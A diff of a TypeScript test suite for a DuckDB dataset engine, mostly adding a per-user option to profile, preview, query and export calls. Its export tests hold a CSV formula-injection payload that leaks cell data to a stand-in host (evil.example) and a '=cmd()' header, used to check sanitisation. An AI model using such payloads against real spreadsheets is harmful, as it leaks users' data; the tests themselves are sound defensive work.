@@ -29,6 +29,8 @@ import {
 } from '../support/datasets.ts'
 
 const engine = new DuckDBDatasetEngine()
+/** On whose behalf the engine runs these operations (one user: the fairness tests have their own). */
+const U = { user: 'test-user' }
 const ROWS = sampleRows(200)
 const dir: TempDir = tempDir()
 /** The sample rows in every format, by the format detectFormat must report. */
@@ -47,9 +49,12 @@ beforeAll(async () => {
   files['json.gz'] = await gzipFile(files.json, dir.file('sample-json-gz'))
   files['ndjson.gz'] = await gzipFile(files.ndjson, dir.file('sample-ndjson-gz'))
   sampleParquet = dir.file('sample.parquet')
-  await engine.profile(files.csv, 'csv', { parquetPath: sampleParquet })
+  await engine.profile(files.csv, 'csv', { ...U, parquetPath: sampleParquet })
 })
-afterAll(() => dir[Symbol.dispose]())
+afterAll(async () => {
+  await engine.close()
+  dir[Symbol.dispose]()
+})
 
 async function rejection(p: Promise<unknown>): Promise<Error> {
   try {
@@ -119,7 +124,7 @@ describe('profile', () => {
     const profiles: DatasetProfile[] = []
     for (const [format, path] of Object.entries(files)) {
       const parquetPath = `${path}.parquet`
-      profiles.push(await engine.profile(path, format as DatasetFormat, { parquetPath }))
+      profiles.push(await engine.profile(path, format as DatasetFormat, { ...U, parquetPath }))
       expect(await detectFormat(parquetPath)).toBe('parquet')
     }
     for (const p of profiles) {
@@ -138,7 +143,7 @@ describe('profile', () => {
   })
 
   test('statistics: numbers for numeric columns, ISO dates, null %, exact top values for text', async () => {
-    const p = await engine.profile(files.csv, 'csv', { parquetPath: dir.file('stats.parquet') })
+    const p = await engine.profile(files.csv, 'csv', { ...U, parquetPath: dir.file('stats.parquet') })
     const col = Object.fromEntries(p.columns.map((c) => [c.name, c]))
     expect(col.id).toMatchObject({ kind: 'number', min: 1, max: 200, mean: 100.5, nullPercent: 0 })
     expect(col.id!.std).toBeCloseTo(57.879, 2)
@@ -168,7 +173,7 @@ describe('profile', () => {
         `INTERVAL (i % 30) DAY AS span, i % 3 = 0 AS flag, 'k' || (i % 40) AS txt, {'x': i % 5} AS obj, [i % 4] AS arr ` +
         `FROM range(20000) r(i)) TO '${path}' (FORMAT parquet)`,
     )
-    const p = await engine.profile(path, 'parquet', { parquetPath: dir.file('types-copy.parquet') })
+    const p = await engine.profile(path, 'parquet', { ...U, parquetPath: dir.file('types-copy.parquet') })
     const summary = await duckdb(`SUMMARIZE SELECT * FROM read_parquet('${path}')`)
 
     expect(p.rowCount).toBe(20_000)
@@ -208,7 +213,7 @@ describe('profile', () => {
   test('a dataset with a header and no rows profiles as zero rows with empty statistics', async () => {
     const path = dir.file('header-only')
     await Bun.write(path, 'id,name,amount\n')
-    const p = await engine.profile(path, 'csv', { parquetPath: dir.file('header-only.parquet') })
+    const p = await engine.profile(path, 'csv', { ...U, parquetPath: dir.file('header-only.parquet') })
     expect(p.rowCount).toBe(0)
     expect(p.columns.map((col) => col.name)).toEqual(['id', 'name', 'amount'])
     for (const col of p.columns) expect(col).toMatchObject({ nullPercent: 0, approxDistinct: 0, min: null, max: null, mean: null, std: null, q50: null })
@@ -217,7 +222,7 @@ describe('profile', () => {
   test('top values are ordered by count, most frequent first', async () => {
     const rows = [...Array(6).fill({ k: 'b' }), ...Array(9).fill({ k: 'a' }), ...Array(3).fill({ k: 'c' }), { k: null }]
     const path = await writeCsv(dir.file('skewed'), rows)
-    const p = await engine.profile(path, 'csv', { parquetPath: dir.file('skewed.parquet'), topValues: 2 })
+    const p = await engine.profile(path, 'csv', { ...U, parquetPath: dir.file('skewed.parquet'), topValues: 2 })
     expect(p.columns[0]!.topValues).toEqual([
       { value: 'a', count: 9 },
       { value: 'b', count: 6 },
@@ -230,7 +235,7 @@ describe('profile', () => {
     const path = dir.file('broken-columns')
     await Bun.write(path, lines.join('\n'))
     const parquetPath = dir.file('broken-columns.parquet')
-    const err = await rejection(engine.profile(path, await detectFormat(path), { parquetPath }))
+    const err = await rejection(engine.profile(path, await detectFormat(path), { ...U, parquetPath }))
     expect(err).toBeInstanceOf(DatasetParseError)
     expect((err as DatasetParseError).status).toBe(422)
     expect((err as DatasetParseError).line).toBe(51)
@@ -247,7 +252,7 @@ describe('profile', () => {
     lines[25_001] = '25000,"never closed'
     const path = dir.file('broken-quote')
     await Bun.write(path, lines.join('\n'))
-    const err = await rejection(engine.profile(path, 'csv', { parquetPath: dir.file('broken-quote.parquet') }))
+    const err = await rejection(engine.profile(path, 'csv', { ...U, parquetPath: dir.file('broken-quote.parquet') }))
     expect(err).toBeInstanceOf(DatasetParseError)
     expect((err as DatasetParseError).line).toBe(25_002)
     expect(err.message).toContain('unterminated quote')
@@ -258,7 +263,7 @@ describe('profile', () => {
     lines[10] = '10,user 10'
     await Bun.write(dir.file('short-row'), lines.join('\n'))
     const path = await gzipFile(dir.file('short-row'), dir.file('short-row-gz'))
-    const err = await rejection(engine.profile(path, await detectFormat(path), { parquetPath: dir.file('short-row.parquet') }))
+    const err = await rejection(engine.profile(path, await detectFormat(path), { ...U, parquetPath: dir.file('short-row.parquet') }))
     expect((err as DatasetParseError).line).toBe(11)
     expect(err.message).toContain('Found: 2')
   })
@@ -267,11 +272,11 @@ describe('profile', () => {
     const rows: Record<string, unknown>[] = Array.from({ length: 30_000 }, (_, i) => ({ n: i, s: `x${i}` }))
     rows[28_000] = { n: 'n/a', s: 'late' }
     const csv = await writeCsv(dir.file('late-text'), rows)
-    const p = await engine.profile(csv, 'csv', { parquetPath: dir.file('late-text.parquet') })
+    const p = await engine.profile(csv, 'csv', { ...U, parquetPath: dir.file('late-text.parquet') })
     expect(p.rowCount).toBe(30_000)
     expect(p.columns[0]).toMatchObject({ name: 'n', type: 'VARCHAR' })
     const nd = await writeNdjson(dir.file('late-text-nd'), rows)
-    const q = await engine.profile(nd, 'ndjson', { parquetPath: dir.file('late-text-nd.parquet') })
+    const q = await engine.profile(nd, 'ndjson', { ...U, parquetPath: dir.file('late-text-nd.parquet') })
     // JSON keeps mixed numbers and strings as JSON values rather than text.
     expect(q.rowCount).toBe(30_000)
     expect(q.columns[0]).toMatchObject({ name: 'n', type: 'JSON', kind: 'text' })
@@ -283,7 +288,7 @@ describe('profile', () => {
     const path = dir.file('broken-ndjson')
     await Bun.write(path, lines.join('\n'))
     expect(await detectFormat(path)).toBe('ndjson')
-    const err = await rejection(engine.profile(path, 'ndjson', { parquetPath: dir.file('broken-ndjson.parquet') }))
+    const err = await rejection(engine.profile(path, 'ndjson', { ...U, parquetPath: dir.file('broken-ndjson.parquet') }))
     expect(err).toBeInstanceOf(DatasetParseError)
     expect((err as DatasetParseError).line).toBe(101)
     expect(err.message).toMatch(/^The NDJSON file could not be read: Malformed JSON at byte \d+ in line 101: /)
@@ -295,7 +300,7 @@ describe('profile', () => {
     lines[0] = '{"id": 1,, "name": "x"}'
     await Bun.write(dir.file('broken-first'), lines.join('\n'))
     const path = await gzipFile(dir.file('broken-first'), dir.file('broken-first-gz'))
-    const err = await rejection(engine.profile(path, await detectFormat(path), { parquetPath: dir.file('broken-first.parquet') }))
+    const err = await rejection(engine.profile(path, await detectFormat(path), { ...U, parquetPath: dir.file('broken-first.parquet') }))
     expect((err as DatasetParseError).line).toBe(1)
   })
 
@@ -304,7 +309,7 @@ describe('profile', () => {
     await Bun.write(path, new Uint8Array([0x50, 0x41, 0x52, 0x31, ...NOT_DATASETS.random.subarray(0, 64), 8, 0, 0, 0, 0x50, 0x41, 0x52, 0x31]))
     expect(await detectFormat(path)).toBe('parquet')
     const parquetPath = dir.file('corrupt-parquet.parquet')
-    const err = await rejection(engine.profile(path, 'parquet', { parquetPath }))
+    const err = await rejection(engine.profile(path, 'parquet', { ...U, parquetPath }))
     expect(err).toBeInstanceOf(DatasetParseError)
     expect(err.message).toStartWith('The Parquet file could not be read: ')
     expect(existsSync(parquetPath)).toBe(false)
@@ -312,8 +317,8 @@ describe('profile', () => {
 
   test('toParquet converts without profiling', async () => {
     const dest = dir.file('converted.parquet')
-    await engine.toParquet(files['ndjson.gz'], dest, 'ndjson.gz')
-    const preview = await engine.preview(dest, 1, 0)
+    await engine.toParquet(files['ndjson.gz'], dest, 'ndjson.gz', U)
+    const preview = await engine.preview(dest, 1, 0, U)
     expect(preview.totalRows).toBe(200)
     expect(preview.rows[0]).toMatchObject({ id: 1, city: 'Lisbon' })
   })
@@ -321,14 +326,14 @@ describe('profile', () => {
   test('an aborted profile rejects with the abort reason', async () => {
     const controller = new AbortController()
     controller.abort(new Error('shutting down'))
-    const err = await rejection(engine.profile(files.csv, 'csv', { parquetPath: dir.file('aborted.parquet'), signal: controller.signal }))
+    const err = await rejection(engine.profile(files.csv, 'csv', { ...U, parquetPath: dir.file('aborted.parquet'), signal: controller.signal }))
     expect(err.message).toBe('shutting down')
   })
 })
 
 describe('preview', () => {
   test('limit and offset over the Parquet copy, in file order, with the total', async () => {
-    const p = await engine.preview(sampleParquet, 3, 10)
+    const p = await engine.preview(sampleParquet, 3, 10, U)
     expect(p.columns).toEqual([
       { name: 'id', type: 'BIGINT' },
       { name: 'name', type: 'VARCHAR' },
@@ -340,8 +345,8 @@ describe('preview', () => {
     ])
     expect(p.rows).toEqual(ROWS.slice(10, 13) as unknown as typeof p.rows)
     expect(p).toMatchObject({ offset: 10, limit: 3, totalRows: 200 })
-    expect((await engine.preview(sampleParquet, 5_000_000, -4)).rows.length).toBe(200)
-    expect((await engine.preview(sampleParquet, 10, 195)).rows.map((r) => r.id)).toEqual([196, 197, 198, 199, 200])
+    expect((await engine.preview(sampleParquet, 5_000_000, -4, U)).rows.length).toBe(200)
+    expect((await engine.preview(sampleParquet, 10, 195, U)).rows.map((r) => r.id)).toEqual([196, 197, 198, 199, 200])
   })
 
   test('values are JSON-safe: big integers as strings, dates and timestamps as ISO strings', async () => {
@@ -353,7 +358,7 @@ describe('preview', () => {
         TIMESTAMP '2024-02-29 13:14:15.123456' AS ts, TIMESTAMPTZ '2024-02-29 13:14:15+00' AS tstz,
         [1, 2]::BIGINT[] AS list, {'a': 1::BIGINT, 'b': 'x'} AS struct, NULL::VARCHAR AS nothing
       ) TO '${path}' (FORMAT parquet)`)
-    const p = await engine.preview(path, 1, 0)
+    const p = await engine.preview(path, 1, 0, U)
     const row = p.rows[0]!
     expect(row).toEqual({
       small_big: 42,
@@ -376,7 +381,7 @@ describe('preview', () => {
 
 describe('query sandbox', () => {
   test('an aggregate over `data` works', async () => {
-    const r = await engine.query(sampleParquet, 'SELECT city, count(*) AS n, sum(amount) AS total FROM data GROUP BY city ORDER BY city')
+    const r = await engine.query(sampleParquet, 'SELECT city, count(*) AS n, sum(amount) AS total FROM data GROUP BY city ORDER BY city', U)
     expect(r.columns).toEqual([
       { name: 'city', type: 'VARCHAR' },
       { name: 'n', type: 'BIGINT' },
@@ -392,31 +397,31 @@ describe('query sandbox', () => {
   })
 
   test('WITH, FROM-first, SUMMARIZE and DESCRIBE are read-only and allowed', async () => {
-    expect((await engine.query(sampleParquet, 'WITH x AS (SELECT * FROM data WHERE active) SELECT count(*) AS n FROM x')).rows).toEqual([{ n: 100 }])
-    expect((await engine.query(sampleParquet, 'FROM data SELECT max(id) AS m;')).rows).toEqual([{ m: 200 }])
-    expect((await engine.query(sampleParquet, 'SUMMARIZE data')).rowCount).toBe(7)
-    expect((await engine.query(sampleParquet, 'DESCRIBE data')).rowCount).toBe(7)
+    expect((await engine.query(sampleParquet, 'WITH x AS (SELECT * FROM data WHERE active) SELECT count(*) AS n FROM x', U)).rows).toEqual([{ n: 100 }])
+    expect((await engine.query(sampleParquet, 'FROM data SELECT max(id) AS m;', U)).rows).toEqual([{ m: 200 }])
+    expect((await engine.query(sampleParquet, 'SUMMARIZE data', U)).rowCount).toBe(7)
+    expect((await engine.query(sampleParquet, 'DESCRIBE data', U)).rowCount).toBe(7)
   })
 
   test('the row cap truncates without reading the rest', async () => {
-    const r = await engine.query(sampleParquet, 'SELECT * FROM range(1000000000000) t(i)', { maxRows: 100 })
+    const r = await engine.query(sampleParquet, 'SELECT * FROM range(1000000000000) t(i)', { ...U, maxRows: 100 })
     expect(r).toMatchObject({ rowCount: 100, truncated: true })
     expect(r.rows.at(-1)).toEqual({ i: 99 })
-    expect((await engine.query(sampleParquet, 'SELECT * FROM data', { maxRows: 200 })).truncated).toBe(false)
+    expect((await engine.query(sampleParquet, 'SELECT * FROM data', { ...U, maxRows: 200 })).truncated).toBe(false)
   })
 
   test('a long query is interrupted at the time limit, and the event loop keeps running meanwhile', async () => {
     let ticks = 0
     const tick = setInterval(() => ticks++, 5)
     const err = await rejection(
-      engine.query(sampleParquet, 'SELECT count(*) FROM range(1000000000) a, range(1000000000) b WHERE a.range + b.range = -1', { timeoutMs: 300 }),
+      engine.query(sampleParquet, 'SELECT count(*) FROM range(1000000000) a, range(1000000000) b WHERE a.range + b.range = -1', { ...U, timeoutMs: 300 }),
     )
     clearInterval(tick)
     expect(err).toBeInstanceOf(QueryTimeoutError)
     expect((err as QueryTimeoutError).status).toBe(422)
     expect(ticks).toBeGreaterThan(5)
     // The engine is fine afterwards.
-    expect((await engine.query(sampleParquet, 'SELECT count(*) AS n FROM data')).rows).toEqual([{ n: 200 }])
+    expect((await engine.query(sampleParquet, 'SELECT count(*) AS n FROM data', U)).rows).toEqual([{ n: 200 }])
   })
 
   /** Where refused statements try to write; checked to be untouched afterwards. */
@@ -459,7 +464,7 @@ describe('query sandbox', () => {
   ]
   for (const [what, sql, message] of refused) {
     test(`refused: ${what}`, async () => {
-      const err = await rejection(engine.query(sampleParquet, sql))
+      const err = await rejection(engine.query(sampleParquet, sql, U))
       expect(err).toBeInstanceOf(UnprocessableError)
       expect((err as UnprocessableError).status).toBe(422)
       expect(err.message).toMatch(message)
@@ -468,14 +473,14 @@ describe('query sandbox', () => {
   }
 
   test('state-changing table functions inside a SELECT cannot write files either', async () => {
-    await engine.query(sampleParquet, `SELECT * FROM enable_logging(level = 'trace', storage = 'file', storage_path = '${outside}/logs')`)
-    await engine.query(sampleParquet, `SELECT * FROM enable_logging(storage = 'file', storage_path = '${sampleParquet}')`)
+    await engine.query(sampleParquet, `SELECT * FROM enable_logging(level = 'trace', storage = 'file', storage_path = '${outside}/logs')`, U)
+    await engine.query(sampleParquet, `SELECT * FROM enable_logging(storage = 'file', storage_path = '${sampleParquet}')`, U)
     expect(existsSync(`${outside}/logs`)).toBe(false)
-    expect((await engine.preview(sampleParquet, 1, 0)).totalRows).toBe(200)
+    expect((await engine.preview(sampleParquet, 1, 0, U)).totalRows).toBe(200)
   })
 
   test("the dataset's server path does not leak through catalog functions", async () => {
-    const r = await engine.query(sampleParquet, "SELECT (SELECT sql FROM duckdb_views() WHERE view_name = 'data') AS v, (SELECT value FROM duckdb_settings() WHERE name = 'allowed_paths') AS p")
+    const r = await engine.query(sampleParquet, "SELECT (SELECT sql FROM duckdb_views() WHERE view_name = 'data') AS v, (SELECT value FROM duckdb_settings() WHERE name = 'allowed_paths') AS p", U)
     expect(JSON.stringify(r.rows)).not.toContain(sampleParquet)
     expect(r.rows[0]!.v).toContain("read_parquet('data')")
   })
@@ -483,24 +488,25 @@ describe('query sandbox', () => {
   test('refused statements had no effect: nothing was written, the dataset is intact', async () => {
     const written = readdirSync(dir.path).filter((f) => /stolen|other\.duckdb|^export$|^x\.csv$|^q\.csv$/.test(f))
     expect(written).toEqual([])
-    expect((await engine.query(sampleParquet, 'SELECT count(*) AS n FROM data')).rows).toEqual([{ n: 200 }])
+    expect((await engine.query(sampleParquet, 'SELECT count(*) AS n FROM data', U)).rows).toEqual([{ n: 200 }])
   })
 
   test('DuckDB errors come back as 422 with its message, the server path replaced by `data`', async () => {
-    const err = await rejection(engine.query(sampleParquet, 'SELECT no_such_column FROM data'))
+    const err = await rejection(engine.query(sampleParquet, 'SELECT no_such_column FROM data', U))
     expect(err).toBeInstanceOf(UnprocessableError)
     expect(err.message).toContain('Binder Error')
     expect(err.message).toContain('no_such_column')
-    const parse = await rejection(engine.query(sampleParquet, 'SELEC 1'))
+    const parse = await rejection(engine.query(sampleParquet, 'SELEC 1', U))
     expect(parse.message).toContain('Parser Error')
-    const viaPath = await rejection(engine.query(sampleParquet, `SELECT * FROM read_parquet('${sampleParquet}') WHERE id = 'x'`))
+    const viaPath = await rejection(engine.query(sampleParquet, `SELECT * FROM read_parquet('${sampleParquet}') WHERE id = 'x'`, U))
     expect(viaPath.message).not.toContain(sampleParquet)
   })
 
   test('queries queue for a slot instead of failing when the pool is busy', async () => {
     const narrow = new DuckDBDatasetEngine({ interactiveConcurrency: 1 })
-    const results = await Promise.all(Array.from({ length: 4 }, (_, i) => narrow.query(sampleParquet, `SELECT ${i} AS i, count(*) AS n FROM data`)))
+    const results = await Promise.all(Array.from({ length: 4 }, (_, i) => narrow.query(sampleParquet, `SELECT ${i} AS i, count(*) AS n FROM data`, U)))
     expect(results.map((r) => r.rows[0])).toEqual([0, 1, 2, 3].map((i) => ({ i, n: 200 })))
+    await narrow.close()
   })
 })
 
@@ -518,20 +524,20 @@ describe('exportTo', () => {
 
   beforeAll(async () => {
     parquet = dir.file('hostile.parquet')
-    await engine.toParquet(await writeNdjson(dir.file('hostile'), hostile), parquet, 'ndjson')
+    await engine.toParquet(await writeNdjson(dir.file('hostile'), hostile), parquet, 'ndjson', U)
   })
 
   test('CSV: formula-looking text cells get a leading quote; numbers stay numbers', async () => {
     const out = dir.file('hostile-export.csv')
-    const res = await engine.exportTo(parquet, 'csv', out)
+    const res = await engine.exportTo(parquet, 'csv', out, U)
     expect(res).toEqual({ path: out, bytes: Bun.file(out).size, contentType: 'text/csv; charset=utf-8' })
     const text = await Bun.file(out).text()
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")"`)
     expect(text).not.toMatch(/(^|,|")=HYPERLINK/m)
     // Read back with DuckDB's own CSV reader: every text cell is either safe or quoted.
     const back = dir.file('hostile-back.parquet')
-    await engine.toParquet(out, back, await detectFormat(out))
-    const rows = (await engine.preview(back, 100, 0)).rows
+    await engine.toParquet(out, back, await detectFormat(out), U)
+    const rows = (await engine.preview(back, 100, 0, U)).rows
     expect(rows.map((r) => r.cell)).toEqual(hostile.map((h) => (/^[=+\-@\t\r]/.test(h.cell) ? `'${h.cell}` : h.cell)))
     expect(rows.map((r) => r.n)).toEqual(hostile.map((h) => h.n))
   })
@@ -539,29 +545,29 @@ describe('exportTo', () => {
   test('CSV: a header that looks like a formula is neutralised too', async () => {
     const src = await writeCsv(dir.file('hostile-header'), [{ '=cmd()': 'x', ok: 1 }])
     const pq = dir.file('hostile-header.parquet')
-    await engine.toParquet(src, pq, 'csv')
+    await engine.toParquet(src, pq, 'csv', U)
     const out = dir.file('hostile-header-export.csv')
-    await engine.exportTo(pq, 'csv', out)
+    await engine.exportTo(pq, 'csv', out, U)
     expect((await Bun.file(out).text()).split('\n')[0]).toBe(`'=cmd(),ok`)
   })
 
   test('JSON: an array of the rows, values unchanged', async () => {
     const out = dir.file('sample-export.json')
-    const res = await engine.exportTo(sampleParquet, 'json', out)
+    const res = await engine.exportTo(sampleParquet, 'json', out, U)
     expect(res.contentType).toBe('application/json')
     expect(JSON.parse(await Bun.file(out).text())).toEqual(ROWS)
   })
 
   test('consumeFile streams an export and removes it, also when the reader cancels', async () => {
     const out = dir.file('streamed.json')
-    const res = await engine.exportTo(sampleParquet, 'json', out)
+    const res = await engine.exportTo(sampleParquet, 'json', out, U)
     const body = await new Response(await consumeFile(out, 1024)).text()
     expect(body.length).toBe(res.bytes)
     expect(JSON.parse(body)).toEqual(ROWS)
     expect(existsSync(out)).toBe(false)
 
     const out2 = dir.file('cancelled.csv')
-    await engine.exportTo(sampleParquet, 'csv', out2)
+    await engine.exportTo(sampleParquet, 'csv', out2, U)
     const reader = (await consumeFile(out2, 64)).getReader()
     expect((await reader.read()).value!.length).toBe(64)
     await reader.cancel()
@@ -570,19 +576,19 @@ describe('exportTo', () => {
 
   test('Parquet: a readable copy', async () => {
     const out = dir.file('sample-export.parquet')
-    const res = await engine.exportTo(sampleParquet, 'parquet', out)
+    const res = await engine.exportTo(sampleParquet, 'parquet', out, U)
     expect(res.contentType).toBe('application/vnd.apache.parquet')
     expect(await detectFormat(out)).toBe('parquet')
-    expect((await engine.preview(out, 1000, 0)).rows).toEqual(ROWS as unknown as Record<string, never>[])
+    expect((await engine.preview(out, 1000, 0, U)).rows).toEqual(ROWS as unknown as Record<string, never>[])
   })
 })
 
 describe('diffProfiles', () => {
   test('added, removed and retyped columns and the row-count change between versions', async () => {
-    const v1 = await engine.profile(files.csv, 'csv', { parquetPath: dir.file('v1.parquet') })
+    const v1 = await engine.profile(files.csv, 'csv', { ...U, parquetPath: dir.file('v1.parquet') })
     const v2rows = sampleRows(250).map(({ note: _note, id, ...r }) => ({ id: `#${id}`, ...r, score: id % 10 }))
     const v2path = await writeCsv(dir.file('v2'), v2rows)
-    const v2 = await engine.profile(v2path, 'csv', { parquetPath: dir.file('v2.parquet') })
+    const v2 = await engine.profile(v2path, 'csv', { ...U, parquetPath: dir.file('v2.parquet') })
     expect(diffProfiles(v1, v2)).toEqual({
       added: [{ name: 'score', type: 'BIGINT' }],
       removed: [{ name: 'note', type: 'VARCHAR' }],
